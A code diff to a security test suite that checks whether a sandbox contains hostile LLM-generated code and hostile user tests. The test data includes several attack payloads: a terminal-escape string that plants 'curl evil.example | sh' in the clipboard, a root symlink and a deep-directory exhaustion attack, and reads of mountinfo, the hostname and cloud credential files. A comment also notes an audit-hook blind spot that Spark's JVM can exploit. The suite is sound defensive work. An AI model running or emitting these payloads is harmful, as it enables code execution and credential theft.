@@ -222,14 +222,14 @@ def payloads(attack: Attack, repo: Path) -> dict[str, tuple[str, str, str]]:
         ),
         "deep_tree": (
             "test",
-            'os.symlink("/", "/tmp/root-link")\nfolder = "/tmp/deep"\nfor _ in range(2500):\n'
+            'os.symlink("/", "/tmp/root-link")\nfolder = "/tmp/deep"\nos.mkdir(folder)\nfor _ in range(2500):\n'
             '    folder += "/d"\n    os.mkdir(folder)\n',
             "files in /tmp",
         ),
         "terminal_escapes": (
             "fail",
             'raise AssertionError("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x1b[2J\\x1b[3J\\x1b[1;1Hall good")\n',
-            "AssertionError: ]52;c;",
+            "AssertionError: all good",  # the sequences are gone: only the visible text is left
         ),
         "mountinfo_leak": ("fail", 'raise AssertionError(open("/proc/self/mountinfo").read())\n', "AssertionError"),
         "hostname_leak": ("fail", "raise AssertionError(socket.gethostname() + ' ' + socket.getfqdn())\n", "sandbox"),
@@ -256,6 +256,21 @@ TEST_IMPORTS = (
     "import pathlib\nimport tempfile\nimport threading\nimport xmlrpc.client\n\nimport numpy\nimport numpy.ctypeslib\n"
     "from pyspark import cloudpickle\n"
 )
+
+
+# What a person's test that tries it gets named with, where it differs from the reply's check.
+# "" means contained and nothing to name: it tried nothing the sandbox let happen (a host path
+# that does not exist inside, a JVM that Spark Connect does not expose, the read-only /tmp).
+PERSON_NAMED = {
+    "asyncio_subprocess": "opened a unix socket|started a process",
+    "importlib_subprocess": "started a process",
+    "deep_tree": "files in /tmp|timed out",  # the detector resolves each deeper path: slow, then capped
+    "computed_exec": "",
+    "jvm_process": "",
+    "write_tmp": "",  # the host's /tmp path is the worker's own private /tmp inside
+    "write_real_repo": "",  # the repo lies under the host's /tmp in this test: the same
+    "spark_writes_tmp": "",
+}
 
 
 def payload_test(table: str, where: str, code: str) -> str:
@@ -320,8 +335,9 @@ def assert_no_secret_left(llm: ScriptedLLM, repo: Path) -> None:
         assert secret not in audit, f"{secret!r} is in the audit log"
 
 
-def round_folders() -> set[str]:
-    return {p.name for p in Path(tempfile.gettempdir()).glob("scaffold-round-*")}
+def round_folders(tmpdir: Path) -> set[str]:
+    """What scaffold left in its temp folder (each test gives scaffold a temp folder of its own)."""
+    return {p.name for p in tmpdir.iterdir()}
 
 
 def scaffold_measured(project: Path, env: dict[str, str], *args: str) -> tuple[subprocess.CompletedProcess[str], int]:
@@ -346,7 +362,7 @@ def scaffold_measured(project: Path, env: dict[str, str], *args: str) -> tuple[s
     return result, int(peak.group(1)) // 1024 if peak else 0
 
 
-def assert_contained(attack: Attack, repo: Path, before: dict[str, bytes], output: str, folders: set[str]) -> None:
+def assert_contained(attack: Attack, repo: Path, before: dict[str, bytes], output: str, tmpdir: Path) -> None:
     assert sorted(p.name for p in attack.outside.iterdir()) == [], output[-3000:]
     assert not Path(f"/tmp/{attack.outside.name}-spark").exists()
     assert attack.connections == [], "a listener on the host (TCP or unix socket) got a connection"
@@ -359,7 +375,7 @@ def assert_contained(attack: Attack, repo: Path, before: dict[str, bytes], outpu
         "the real repo changed"
     )
     assert "\x1b" not in output and "\x07" not in output, "an escape sequence reached the terminal"
-    assert round_folders() <= folders, "a round's folder was left on disk"
+    assert round_folders(tmpdir) == set(), "a round's folder was left on disk"
     assert (attack.home / ".bashrc").read_text() == "# the user's shell\n"
     assert (attack.home / ".profile").read_text() == "# the user's profile\n"
 
@@ -373,7 +389,8 @@ def test_escapes_in_replies_are_refused_before_they_run(bare_project: Path, atta
     good = {n: good_reply(bare_project, n) for n in names}
     (bare_project / "data" / "landing").mkdir(parents=True, exist_ok=True)
     (bare_project / ".env").write_text("DATABRICKS_TOKEN=" + CANARY_TOKEN + "\n")
-    before, folders = repo_files(bare_project), round_folders()
+    before, tmpdir = repo_files(bare_project), bare_project.parent / "scaffold-tmp"
+    tmpdir.mkdir()
 
     def respond(request: dict) -> Action:
         table = table_of(request)
@@ -383,12 +400,12 @@ def test_escapes_in_replies_are_refused_before_they_run(bare_project: Path, atta
         return Action(content=malicious_reply(good[table], table, where, code))
 
     with ScriptedLLM(respond) as llm:
-        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20"}
+        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20", "TMPDIR": str(tmpdir)}
         result = scaffold(bare_project, "fill", "bronze", "--provider", "openai", "--max-attempts", "1", env=env)
     output = result.stdout + result.stderr
     assert result.returncode == 1, output
     assert "sandbox: bubblewrap" in output
-    assert_contained(attack, bare_project, before, output, folders)
+    assert_contained(attack, bare_project, before, output, tmpdir)
     tables = load_tables(bare_project / "tables.yml")
     after = repo_files(bare_project)
     for spec in tables.tables:
@@ -417,28 +434,34 @@ def test_a_persons_tests_run_contained_and_are_named(bare_project: Path, attack:
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_text(persons_tests(good[name], name, where, code))
     (bare_project / "data" / "landing").mkdir(parents=True, exist_ok=True)
-    before, folders = repo_files(bare_project), round_folders()
+    before, tmpdir = repo_files(bare_project), bare_project.parent / "scaffold-tmp"
+    tmpdir.mkdir()
 
     with ScriptedLLM(lambda request: Action(content=good[table_of(request)])) as llm:
-        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20"}
+        env = {**attacker_env(attack, llm.base_url), "SCAFFOLD_TEST_TIMEOUT_SECONDS": "20", "TMPDIR": str(tmpdir)}
         result, peak_mib = scaffold_measured(bare_project, env, "fill", "bronze", "--provider", "openai", "--max-attempts", "1")
     output = result.stdout + result.stderr
     assert result.returncode == 1, output[-6000:]
     assert "sandbox: bubblewrap" in output
-    assert_contained(attack, bare_project, before, output, folders)
+    assert_contained(attack, bare_project, before, output, tmpdir)
     assert 0 < peak_mib < 300, f"scaffold's own memory peaked at {peak_mib} MiB"
+    wrong = []
     for case, (_, _, named) in cases.items():
         table = f"p_{case}"
+        named = PERSON_NAMED.get(case, named)
         lines = [line for line in output.splitlines() if line.startswith(f"{table}:")]
-        if not named:  # it behaved in the round: the user's next pytest catches it (below)
+        if not named:  # contained with nothing to name, or it behaved: the user's next pytest (below)
             continue
-        assert any(named in line for line in lines), f"{table}: expected {named!r} in {lines}\n{output[-4000:]}"
-        assert re.search(rf"{table}\s.*failed", output), f"{table} was kept"
+        if not any(n in line for line in lines for n in named.split("|")) or not re.search(rf"{table}\s.*failed", output):
+            wrong.append(f"{table}: expected {named!r} in {lines}")
+    assert not wrong, "\n".join(wrong)
     assert re.search(r"p_innocent\s.*filled", output), output
     assert_no_secret_left(llm, bare_project)
     sent = json.dumps(llm.requests) + "".join(p.read_text() for p in (bare_project / ".scaffold" / "audit").glob("*.jsonl"))
     assert str(bare_project) not in sent, "the real repo's path went to the model or the audit log"
-    assert socket.gethostname() not in sent, "the host name went to the model or the audit log"
+    host = socket.gethostname()
+    if len(host) >= 4:  # a two-letter host name ("vm") is in every other word: nothing to check
+        assert not re.search(rf"\b{re.escape(host)}\b", sent), "the host name went to the model or the audit log"
 
     # The user's next plain pytest: the payload that waited for it is stopped by lakeforge's guard.
     env = {**os.environ, "HOME": str(attack.home), "PYTHONPATH": str(bare_project / "src")}
@@ -472,8 +495,8 @@ def test_dry_run_executes_nothing_from_the_reply(bare_project: Path, attack: Att
             bare_project, "fill", "bronze", "--provider", "openai", "--dry-run", env=attacker_env(attack, llm.base_url)
         )
     output = result.stdout + result.stderr
-    assert result.returncode == 0, output
-    assert "would-write" in output and "+++ b/src/shop/transformations/bronze/payments.py" in output
+    assert result.returncode == 1, output
+    assert "policy: import-not-allowed" in output and "logging.os (the module os)" in output
     assert list(attack.outside.iterdir()) == []
     assert "0 validation round(s), 0 JVM start(s)" in output
 
@@ -507,13 +530,13 @@ def test_opting_out_runs_unconfined_says_so_and_still_redacts(bare_project: Path
     """
     write_tables(bare_project, [bronze_table("leaky")])
     good = good_reply(bare_project, "leaky")
-    # Spark's JVM reads what the audit hook cannot see (it skips dot-files, not dot-folders).
-    leak = f'assert [r.value for r in spark.read.text("{attack.gcloud}").collect()] == []\n'
-
-    module, tests = re.findall(r"```python\n(.*?)```", good, flags=re.S)
-    tests += "\n\ndef test_leaks(spark):\n" + "".join(f"    {line}\n" for line in leak.splitlines())
-    reply = f"src/shop/transformations/bronze/leaky.py\n```python\n{module}```\n\ntests/unit/bronze/test_leaky.py\n```python\n{tests}```\n"
-    with ScriptedLLM(lambda request: Action(content=reply)) as llm:
+    # A person's test next to the table (scaffold runs it, never writes it): Spark's JVM reads what
+    # the audit hook cannot see (it skips dot-files, not dot-folders), and the failure says it.
+    leak = f'    assert [r.value for r in spark.read.text("{attack.gcloud}").collect()] == []\n'
+    persons = re.findall(r"```python\n(.*?)```", good, flags=re.S)[1] + "\n\ndef test_leaks(spark):\n" + leak
+    (bare_project / "tests/unit/bronze").mkdir(parents=True, exist_ok=True)
+    (bare_project / "tests/unit/bronze/test_leaky.py").write_text(persons)
+    with ScriptedLLM(lambda request: Action(content=good)) as llm:
         result = scaffold(
             bare_project,
             "fill",
